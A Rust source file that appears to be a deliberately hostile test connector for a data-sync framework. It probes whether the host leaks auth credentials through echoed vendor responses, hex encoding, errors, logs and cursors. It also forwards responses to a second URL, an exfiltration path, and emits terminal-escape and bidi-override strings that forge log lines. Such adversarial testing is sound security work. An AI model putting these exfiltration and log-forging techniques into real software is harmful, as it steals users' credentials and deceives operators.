//! What a vendor answers, passed on in every way that a connector has: to leak a credential or to forge lines. The vendor's
//! address is the part, or `url` in the configuration.

use crate::exports::onefold::connector::destination::{Failure, Outcome, WriteRequest};
use crate::exports::onefold::connector::meta::CheckReport;
use crate::exports::onefold::connector::source::{Batch, ReadRequest, StreamInfo};
use crate::onefold::connector::http::{HttpError, Request, Response, send};
use crate::onefold::connector::log;
use crate::onefold::connector::types::Error;
use crate::{refused, rows, text};

const STREAMS: [&str; 7] = [
    "tell",
    "tell-in-hex",
    "tell-in-error",
    "tell-in-log",
    "tell-in-cursor",
    "send-on",
    "forge",
];

/// As the connector's manifest describes them, each after a comma.
pub fn streams() -> String {
    let described = STREAMS.map(|name| {
        format!(
            ",{{\"name\":\"{name}\",\"schema\":{{\"type\":\"object\"}},\"primary_key\":[\"id\"],\
             \"mapping\":{{\"to\":\"person\",\"key\":\"id\",\"map\":{{\"email\":\"email\",\"first_name\":\"name\"}}}}}}"
        )
    });
    described.concat()
}

/// The stream that tells what a vendor answers, where the configuration names one.
pub fn discover(config: &str) -> Option<StreamInfo> {
    value(config, "url")?;
    Some(StreamInfo {
        name: "tell".to_owned(),
        title: String::new(),
        schema: r#"{"type":"object"}"#.to_owned(),
        primary_key: vec!["id".to_owned()],
        cursor_fields: Vec::new(),
        data_classes: "{}".to_owned(),
        supports_deletes: false,
    })
}

/// None for an attack that is not of this kind.
pub fn read(request: &ReadRequest) -> Option<Result<Batch, Error>> {
    let url = match request.part.is_empty() {
        true => value(&request.config, "url").unwrap_or_default(),
        false => request.part.clone(),
    };
    let auth = value(&request.config, "auth").unwrap_or_else(|| "token".to_owned());
    Some(match request.stream.as_str() {
        "tell" => answer(&url, &auth).map(|said| row(&said)),
        "tell-in-hex" => answer(&url, &auth).map(|said| row(&hex(&said))),
        "tell-in-error" => answer(&url, &auth).and_then(|said| Err(refused(lossy(&said)))),
        "tell-in-log" => answer(&url, &auth).map(|said| {
            log::write(log::Level::Error, &lossy(&said), None);
            rows(1)
        }),
        "tell-in-cursor" => answer(&url, &auth).map(|said| Batch {
            cursor: said,
            ..rows(1)
        }),
        "send-on" => send_on(&url, &auth),
        "forge" => Ok(forged()),
        _ => return None,
    })
}

/// Two addresses with a blank between them: what the first one answers is sent to the second one.
fn send_on(urls: &str, auth: &str) -> Result<Batch, Error> {
    let (from, to) = urls.split_once(' ').unwrap_or((urls, urls));
    let said = answer(from, auth)?;
    let _ = get(&format!("{to}?plain={}", escaped(&said)), None);
    get(to, Some(auth)).map_err(|error| refused(denial(error)))?;
    Ok(rows(1))
}

/// Everything that the vendor says: its headers and its body, or why there is none.
fn answer(url: &str, auth: &str) -> Result<Vec<u8>, Error> {
    match get(url, Some(auth)) {
        Ok(response) => {
            let mut said = Vec::new();
            for header in &response.headers {
                said.extend_from_slice(&header.value);
                said.push(b' ');
            }
            said.extend_from_slice(&response.body);
            Ok(said)
        }
        Err(error) => Ok(denial(error).into_bytes()),
    }
}

fn get(url: &str, auth: Option<&str>) -> Result<Response, HttpError> {
    send(&Request {
        method: "GET".to_owned(),
        url: url.to_owned(),
        headers: Vec::new(),
        body: None,
        auth: auth.map(str::to_owned),
        bucket: None,
        timeout_ms: None,
        idempotent: false,
    })
}

fn denial(error: HttpError) -> String {
    match error {
        HttpError::Denied(text) => text,
        other => format!("{other:?}"),
    }
}

/// Where the configuration names a vendor, it is asked.
pub fn check(config: &str) -> Result<CheckReport, Error> {
    let auth = value(config, "auth").unwrap_or_else(|| "token".to_owned());
    let said = match value(config, "url") {
        Some(url) => Some(lossy(&answer(&url, &auth)?)),
        None => None,
    };
    Ok(CheckReport {
        account: said.clone(),
        warnings: said.into_iter().collect(),
    })
}

/// Refuses every row with what the vendor says, or with lines that look like others.
pub fn write(request: &WriteRequest) -> Option<Result<Outcome, Error>> {
    let url = value(&request.config, "url")?;
    let auth = value(&request.config, "auth").unwrap_or_else(|| "token".to_owned());
    let said = match request.target.as_str() {
        "people" if url.ends_with("/forge") => FORGED.to_owned(),
        "people" => lossy(&answer(&url, &auth).ok()?),
        _ => return None,
    };
    let failures = (0..request.rows.count).map(|index| Failure {
        index,
        retryable: false,
        code: said.clone(),
        message: said.clone(),
    });
    Some(Ok(Outcome {
        failures: failures.collect(),
        job: None,
    }))
}

/// Clears the line, turns its direction around, sets the window's title, and begins lines of its own.
const FORGED: &str =
    "bad\u{1b}[2K\u{1b}]0;owned\u{7}\u{9b}1A\u{202e}txt\r\nFORGED all is well\u{2028}FORGED";

fn forged() -> Batch {
    let escaped = "bad\\u001b[2K\\u001b]0;owned\\u0007\\u009b1A\\u202etxt\\r\\nFORGED all is well\\u2028FORGED";
    log::write(log::Level::Error, FORGED, Some(FORGED));
    let lines = [
        format!("{{\"id\":\"1{escaped}\",\"email\":\"ada@example.com\",\"name\":\"{escaped}\"}}"),
        format!("{{\"id\":\"2{escaped}\",\"email\":\"{escaped}\",\"name\":\"Bo\"}}"),
    ];
    let mut batch = text(&lines.join("\n"));
    batch.upserts.count = 2;
    batch
}

/// A record whose name is a text.
fn row(said: &[u8]) -> Batch {
    let mut quoted = String::new();
    for c in lossy(said).chars() {
        match c {
            '"' | '\\' => quoted.extend(['\\', c]),
            c if c.is_control() => quoted.push_str(&format!("\\u{:04x}", u32::from(c))),
            c => quoted.push(c),
        }
    }
    text(&format!(
        "{{\"id\":\"1\",\"email\":\"ada@example.com\",\"name\":\"{quoted}\"}}"
    ))
}

fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// In a form in which nobody recognises it: each digit next to its complement.
fn hex(bytes: &[u8]) -> Vec<u8> {
    let digits = bytes
        .iter()
        .map(|byte| format!("{:02x}.{:02x},", byte, !byte));
    digits.collect::<String>().into_bytes()
}

fn escaped(bytes: &[u8]) -> String {
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"-._~".contains(byte);
    let mut text = String::new();
    for byte in bytes {
        match plain(byte) {
            true => text.push(char::from(*byte)),
            false => text.push_str(&format!("%{byte:02X}")),
        }
    }
    text
}

/// A text in the configuration, which is JSON without escapes.
fn value(config: &str, key: &str) -> Option<String> {
    let (_, rest) = config.split_once(&format!("\"{key}\":\""))?;
    Some(rest.split_once('"')?.0.to_owned())
}
